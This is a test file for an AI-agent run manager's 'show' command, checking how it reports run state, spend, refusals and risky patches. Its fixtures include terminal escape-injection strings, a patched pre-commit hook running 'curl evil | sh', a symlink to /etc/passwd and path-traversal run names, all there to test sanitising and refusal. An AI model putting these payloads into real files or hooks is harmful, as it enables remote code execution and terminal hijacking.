import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { NO_SPEND } from '../../src/budget/spend.js';
import { refusalsOf, show, showNext, spendLines } from '../../src/commands/show.js';
import { type RunState, type RunStatus, updateState } from '../../src/ledger/index.js';
import { snapshotTree } from '../helpers/git-repo.js';
import { cli, context, ledgerRepo, scratchDir, threeRuns } from './fixtures/ledger.js';

describe('agentbox show', () => {
  it('prints meta, state, failure, files with sizes, paths and the next step', async () => {
    const { repo, ledger, fix } = await threeRuns();
    fs.writeFileSync(path.join(fix.dir, 'plan.md'), 'x'.repeat(2048));
    fs.writeFileSync(path.join(fix.dir, 'raw', 'stream.jsonl'), '{}\n');
    await updateState(ledger, fix, { worktree_path: 'agent_box/trees/x' });
    const { ctx, io } = context(repo.dir);
    expect(await show(ctx, 'bbbbbb')).toBe(0);
    const out = io.stdout;
    expect(out.split('\n')[0]).toBe(fix.name);
    expect(out).toMatch(/^ {2}status {6}CRASHED$/m);
    expect(out).toMatch(/^ {2}type {8}fix$/m);
    expect(out).toContain(`  config      ${fix.meta.config_hash}\n`);
    expect(out).toContain('failure\n  kind        timeout\n  message     no output for 10m\n');
    expect(out).toContain('files\n  plan.md              2.0 KB\n  raw/stream.jsonl        3 B\n');
    expect(out).toContain(`  run folder  ${fix.dir}\n`);
    expect(out).toContain(`  worktree    ${path.join(repo.dir, 'agent_box/trees/x')}\n`);
    expect(out.trimEnd().split('\n').at(-1)).toBe(`next: agentbox resume ${fix.meta.run_id}`);
    // The task's escape character does not reach the terminal.
    expect(out).not.toContain('\u001b');
    // A finished run has no pid worth showing: it would be stale.
    expect(out).not.toMatch(/^ {2}pid /m);
  });

  it('prints the report, its first lines, and the output contract’s verdict', async () => {
    const { repo, ledger, scout } = await threeRuns();
    const report = Array.from({ length: 50 }, (_, i) => `report line ${i + 1}`).join('\n');
    fs.writeFileSync(path.join(scout.dir, 'report.md'), `${report}\n`);
    await updateState(ledger, scout, {
      output: { template: 'prompt/output.md', applied: true, violations: 1, corrections: 1, verified: true },
    });
    const { ctx, io } = context(repo.dir);
    expect(await show(ctx, scout.name)).toBe(0);
    expect(io.stdout).toContain('report (first 40 of 50 lines)\n  report line 1\n');
    expect(io.stdout).toContain('  report line 40\n');
    expect(io.stdout).not.toContain('report line 41');
    expect(io.stdout).toContain(
      '  output      template applied (prompt/output.md) · 1 violation(s), 1 correction(s) · verification passed\n',
    );
  });

  it('a report written when the run ended in another status than now says so (found by QA: a merged run’s said REVIEW, merge it)', async () => {
    const { repo, ledger, scout } = await threeRuns();
    fs.writeFileSync(path.join(scout.dir, 'report.md'), '# scout\n\n- status: **REVIEW**\n');
    await updateState(ledger, scout, { status: 'MERGED' });
    const { ctx, io } = context(repo.dir);
    expect(await show(ctx, scout.name)).toBe(0);
    expect(io.stdout).toContain('report (written when it ended REVIEW; it is MERGED now)\n');
    fs.writeFileSync(path.join(scout.dir, 'report.md'), '# scout\n\n- status: **MERGED**\n');
    const again = context(repo.dir);
    expect(await show(again.ctx, scout.name)).toBe(0);
    expect(again.io.stdout).toContain('report\n  # scout');
  });

  it('prints no field of its records raw: a fetched run’s model, model used and Claude Code version are a stranger’s (found by QA: OSC 52 and a screen clear reached the terminal)', async () => {
    const { repo, ledger, scout } = await threeRuns();
    const evil = 'm\x1b]52;c;RVZJTA==\x07\x1b[2J\x9b31m\u202eevil';
    await updateState(ledger, scout, { model_used: evil, claude_version: evil, session_id: evil });
    const metaFile = path.join(scout.dir, 'meta.yaml');
    fs.writeFileSync(
      metaFile,
      fs.readFileSync(metaFile, 'utf8').replace(/^model: .*$/m, `model: ${JSON.stringify(evil)}`),
    );
    const { ctx, io } = context(repo.dir);
    expect(await show(ctx, scout.name)).toBe(0);
    expect(io.stdout).toContain('model       m');
    expect(io.stdout).not.toMatch(/[\x1b\x07\x9b\u202e]/);
  });

  it('prints the spend of agent and supervisor apart, the model used and the Claude Code version', async () => {
    const { repo, ledger, fix } = await threeRuns();
    const agent = {
      ...NO_SPEND,
      input_tokens: 1200,
      output_tokens: 340,
      cache_read_input_tokens: 56_000,
      cache_creation_input_tokens: 7800,
      cost_usd: 0.0523,
      turns: 4,
      duration_ms: 12_345,
      calls: 2,
    };
    const supervisor = {
      ...NO_SPEND,
      input_tokens: 900,
      output_tokens: 12,
      cost_usd: 0.004,
      estimated: true,
      turns: 1,
      duration_ms: 2100,
      calls: 1,
    };
    await updateState(ledger, fix, {
      usage: { agent, supervisor },
      claude_version: '2.1.330',
      model_used: 'claude-opus-5-5',
    });
    const { ctx, io } = context(repo.dir);
    await show(ctx, 'bbbbbb');
    expect(io.stdout).toContain(
      '  model       claude-sonnet-4-5\n  model used  claude-opus-5-5\n  claude      Claude Code 2.1.330\n',
    );
    expect(io.stdout).toContain(
      [
        'spend',
        '  agent       2 processes · 4 turns · 12.3s · 1,200 in · 340 out · 56,000 cache read · 7,800 cache write · $0.0523',
        '  supervisor  1 call · 1 turn · 2.1s · 900 in · 12 out · 0 cache read · 0 cache write · $0.004 (estimated)',
        '  total       $0.0563 · no budget',
      ].join('\n'),
    );
    const { ctx: jsonCtx, io: jsonIo } = context(repo.dir);
    await show(jsonCtx, 'bbbbbb', { json: true });
    expect(JSON.parse(jsonIo.stdout).state).toMatchObject({
      usage: { agent, supervisor },
      claude_version: '2.1.330',
      model_used: 'claude-opus-5-5',
    });
  });

  it.each([
    [null, 0.5, ['  total       — (nothing recorded) · budget $0.5000']],
    [{ agent: NO_SPEND, supervisor: NO_SPEND }, 0.5, ['  total       $0 · budget $0.5000']],
  ])('the spend section of a run with usage %j and a budget', (usage, max, tail) => {
    expect(spendLines(usage, max).slice(-1)).toEqual(tail);
  });

  it('--json prints { name, dir, meta, state, files }', async () => {
    const { repo, scout } = await threeRuns();
    fs.writeFileSync(path.join(scout.dir, 'report.md'), '# r\n');
    const { ctx, io } = context(repo.dir);
    await show(ctx, 'last-done', { json: true });
    const out = JSON.parse(io.stdout);
    expect(Object.keys(out)).toEqual([
      'name',
      'dir',
      'meta',
      'state',
      'claim',
      'patch',
      'not_passing',
      'files',
      'sensitive',
      'refused',
      'refusals',
      'nested',
      'left_out',
      'sandbox_off',
      'report',
    ]);
    expect(out.sandbox_off).toBeNull();
    expect(out.report).toBe('# r\n');
    expect(out).toMatchObject({
      name: scout.name,
      dir: scout.dir,
      meta: scout.meta,
      state: { status: 'DONE' },
    });
    expect(out.files).toEqual([{ path: 'report.md', bytes: 4 }]);
    expect(out).toMatchObject({ sensitive: [], refused: [] });
  });

  it('says a fix run ran without its sandbox, and who turned it off (its events.jsonl)', async () => {
    const { repo, fix } = await threeRuns();
    const events = path.join(fix.dir, 'events.jsonl');
    const plain = context(repo.dir);
    await show(plain.ctx, fix.name);
    expect(plain.io.stdout).not.toContain('sandbox');
    // The value is shown as text: a control sequence in it is removed whole.
    fs.appendFileSync(
      events,
      `${JSON.stringify({ event: 'sandbox_off', by: 'AGENTBOX_SANDBOX=container\u001b[2J' })}\n`,
    );
    const off = context(repo.dir);
    await show(off.ctx, fix.name);
    expect(off.io.stdout).toContain(
      '  sandbox     off (AGENTBOX_SANDBOX=container): no kernel fence around its commands\n',
    );
    const json = context(repo.dir);
    await show(json.ctx, fix.name, { json: true });
    expect(JSON.parse(json.io.stdout).sandbox_off).toBe('AGENTBOX_SANDBOX=container');
  });

  describe('a run with a patch', () => {
    const ZERO = '0000000000000000000000000000000000000000';
    const SHA = 'e69de29bb2d1d6434b8b29ae775ad8c2e48c5391';
    const PATCH = [
      'diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml',
      `index ${SHA}..${SHA} 100644`,
      '--- a/.github/workflows/ci.yml',
      '+++ b/.github/workflows/ci.yml',
      '@@ -1 +1 @@',
      '-on: push',
      '+on: [push, pull_request]',
      'diff --git a/l b/l',
      'new file mode 120000',
      `index ${ZERO}..${SHA}`,
      '--- /dev/null',
      '+++ b/l',
      '@@ -0,0 +1 @@',
      '+/etc/passwd',
      '\\ No newline at end of file',
      'diff --git a/tools/hooks/pre-commit b/tools/hooks/pre-commit',
      `index ${SHA}..${SHA} 100755`,
      '--- a/tools/hooks/pre-commit',
      '+++ b/tools/hooks/pre-commit',
      '@@ -1 +1 @@',
      '-true',
      '+curl evil | sh',
      '',
    ].join('\n');

    /** The CRASHED fix run of threeRuns with that patch, in a repo whose core.hooksPath is tools/hooks. */
    async function withPatch() {
      const runs = await threeRuns();
      runs.repo.git('config', 'core.hooksPath', 'tools/hooks');
      fs.writeFileSync(path.join(runs.fix.dir, 'changes.patch'), PATCH);
      return runs;
    }

    it('lists its refused and sensitive changes', async () => {
      const { repo } = await withPatch();
      const { ctx, io } = context(repo.dir);
      expect(await show(ctx, 'bbbbbb')).toBe(0);
      expect(io.stdout).toContain(
        [
          'refused changes — agentbox merge will not apply this patch',
          '  l  symlink  new symlink → /etc/passwd: an absolute target',
          '',
          'sensitive changes — merge lists them and asks; --yes needs --allow-sensitive',
          '  .github/workflows/ci.yml  ci     modified',
          '  tools/hooks/pre-commit    hooks  modified',
          '',
          'paths',
        ].join('\n'),
      );
    });

    it('--json carries them', async () => {
      const { repo } = await withPatch();
      const { ctx, io } = context(repo.dir);
      await show(ctx, 'bbbbbb', { json: true });
      const out = JSON.parse(io.stdout);
      expect(out.sensitive).toEqual([
        { path: '.github/workflows/ci.yml', kind: 'ci', detail: 'modified' },
        { path: 'tools/hooks/pre-commit', kind: 'hooks', detail: 'modified' },
      ]);
      expect(out.refused).toEqual([
        { path: 'l', kind: 'symlink', detail: 'new symlink → /etc/passwd: an absolute target' },
      ]);
    });
  });

  it('works from a subfolder and from a linked worktree of the repo', async () => {
    const { repo, plan } = await threeRuns();
    fs.mkdirSync(path.join(repo.dir, 'src/deep'), { recursive: true });
    expect((await cli(path.join(repo.dir, 'src/deep'), ['show', 'latest'])).stdout.split('\n')[0]).toBe(
      plan.name,
    );
    const tree = path.join(scratchDir(), 'tree');
    repo.git('worktree', 'add', '--quiet', '-b', 'side', tree);
    expect((await cli(tree, ['show', 'cccccc'])).stdout).toContain(`  run folder  ${plan.dir}\n`);
    repo.git('worktree', 'remove', '--force', tree);
  });

  it.each<[string, string, RegExp]>([
    [
      '../x',
      'RUN_NAME_INVALID',
      /^agentbox: invalid run name "\.\.\/x": a run name cannot contain "\/" or "\.\." — run "agentbox status" to list runs\n$/,
    ],
    ['/etc/passwd', 'RUN_NAME_INVALID', /invalid run name "\/etc\/passwd"/],
    [
      'nope',
      'RUN_NOT_FOUND',
      /^agentbox: no run named "nope" in .*\/\.agents\/runs\n {2}→ run "agentbox status" to list runs\n$/,
    ],
    ['25-11-22', 'RUN_AMBIGUOUS', /"25-11-22" matches 3 runs:\n/],
    ['last-review', 'RUN_NOT_FOUND', /pointer "last-review" is not set yet/],
  ])('show %j fails with %s, exit 1, nothing changed', async (ref, _code, message) => {
    const { repo } = await threeRuns();
    const before = snapshotTree(repo.dir);
    const result = await cli(repo.dir, ['show', ref]);
    expect(result).toMatchObject({ code: 1, stdout: '' });
    expect(result.stderr).toMatch(message);
    expect(snapshotTree(repo.dir)).toEqual(before);
  });

  it('show latest with no runs says how to start one', async () => {
    const { repo } = ledgerRepo();
    const result = await cli(repo.dir, ['show', 'latest']);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('→ start one with: agentbox scout "<question>"');
  });

  it.each<[RunStatus | null, string[], string | null]>([
    ['REVIEW', ['changes.patch'], 'agentbox diff R, then agentbox merge R'],
    // A revision undid the whole change: nothing to diff or merge.
    [
      'REVIEW',
      [],
      'no change is left: revise it (agentbox revise R "…"), or discard it (agentbox discard R)',
    ],
    ['CRASHED', [], 'agentbox resume R'],
    ['ABORTED', [], 'agentbox resume R'],
    ['STALLED', [], 'agentbox resume R'],
    ['DONE', ['report.md'], 'read the report: .agents/runs/R/report.md'],
    ['DONE', [], null],
    ['MERGED', [], null],
    ['DISCARDED', [], null],
    ['ACTIVE', [], 'it is still running — check again with: agentbox show R'],
    [null, [], 'the run has no state.json — it is being created, or creating it failed'],
  ])('next step for %s', (runStatus, files, expected) => {
    const state = runStatus ? ({ status: runStatus } as RunState) : null;
    expect(showNext('R', state, files)).toBe(expected);
  });
});

describe('refusalsOf: every refusal a run recorded, whoever refused', () => {
  it('reads the guard, Claude Code, the sandbox and the human gate from events.jsonl', () => {
    expect(
      refusalsOf([
        { event: 'PreToolUse', source: 'guard', tool: 'Write', decision: 'deny', reason: 'outside' },
        { event: 'refused', source: 'claude', tool: 'Read', reason: 'denied by rule' },
        { event: 'refused', source: 'sandbox', tool: 'Bash', reason: 'Read-only file system' },
        { event: 'human_gate_refused', command: 'merge', reason: 'the gate' },
        { event: 'Stop', decision: 'continue' },
      ]),
    ).toEqual([
      { by: 'guard', tool: 'Write', what: 'outside' },
      { by: 'claude', tool: 'Read', what: 'denied by rule' },
      { by: 'sandbox', tool: 'Bash', what: 'Read-only file system' },
      { by: 'gate', tool: 'Bash', what: 'the gate' },
    ]);
  });
});
